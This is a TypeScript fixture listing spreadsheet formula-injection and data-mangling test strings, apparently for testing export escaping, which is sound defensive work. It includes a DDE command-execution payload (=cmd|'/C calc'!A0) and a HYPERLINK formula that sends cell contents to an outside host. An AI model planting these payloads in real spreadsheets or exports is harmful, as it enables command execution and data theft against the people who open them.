/** Texts that a spreadsheet takes for formulas, in cells and as it reads what is typed. */
export const FORMULAS = [
  '=x',
  '+x',
  '-1+1',
  '@SUM(1)',
  '= X',
  '＝1+1',
  '＋A1',
  '－1+1',
  '＠SUM(1)',
  '=1\n+1',
  '\t=1+1',
  '\r\n=1+1',
  '\u3000＝1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://a.cn?"&A1)',
  '+8613900000000',
];

/** Texts that a spreadsheet changes. */
export const DIGITS = [
  '007',
  '3:1',
  '3-1',
  '1/2',
  '(1)',
  '1E5',
  '110101199003078888',
  '6222020200112233445',
  '-1234567890123456',
  // What people report of spreadsheets: minutes become hours, zeros with an exponent 0, names months.
  '55:35',
  '0E-8',
  'SEPT2',
];

export const INPUTS = [...FORMULAS, ...DIGITS];
